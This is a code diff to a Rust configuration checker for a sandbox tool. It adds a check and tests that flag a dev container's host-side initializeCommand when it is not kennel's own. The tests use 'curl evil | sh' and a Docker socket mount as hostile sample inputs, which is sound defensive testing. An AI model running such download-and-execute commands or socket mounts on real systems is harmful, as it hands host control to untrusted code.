@@ -392,6 +392,27 @@ pub fn check_file(text: &str, expected: &Value) -> Result<(Vec<String>, Vec<Stri
             diffs.push(s);
         }
     }
+    // initializeCommand runs on the host: anything but kennel's `up --egress-only` is code the
+    // workspace (which the sandbox can write) would run there.
+    let want_init = strings(expected, "initializeCommand");
+    let have_init = match actual.get("initializeCommand") {
+        Some(Value::String(s)) => vec![s.clone()],
+        _ => strings(&actual, "initializeCommand"),
+    };
+    let kennel_argv0 = have_init.first().is_some_and(|a| {
+        std::path::Path::new(a)
+            .file_name()
+            .is_some_and(|f| f.to_string_lossy().starts_with("kennel"))
+    });
+    if !want_init.is_empty()
+        && (!kennel_argv0 || have_init.get(1..) != want_init.get(1..))
+    {
+        let s = format!(
+            "initializeCommand is {have_init:?} (kennel's: {want_init:?}); it runs on the host"
+        );
+        weaker.push(s.clone());
+        diffs.push(s);
+    }
     if actual.get("privileged").and_then(Value::as_bool) == Some(true) {
         weaker.push("privileged is true".into());
         diffs.push("privileged is true".into());
@@ -538,6 +559,10 @@ mod tests {
         assert_eq!(w.len(), 2, "{w:?}");
         let w = edit(&|w| w["containerEnv"]["HTTPS_PROXY"] = "".into());
         assert_eq!(w, ["containerEnv.HTTPS_PROXY is not kennel's value"]);
+        let w = edit(&|w| w["initializeCommand"] = json!("curl evil | sh"));
+        assert!(w.len() == 1 && w[0].contains("runs on the host"), "{w:?}");
+        let w = edit(&|w| w["initializeCommand"] = json!(["/opt/bin/kennel", "up"]));
+        assert!(w.is_empty(), "another path to kennel is fine: {w:?}");
         let w = edit(&|w| w["privileged"] = true.into());
         assert_eq!(w, ["privileged is true"]);
         let w = edit(&|w| w["mounts"].as_array_mut().expect("m").push("source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind".into()));
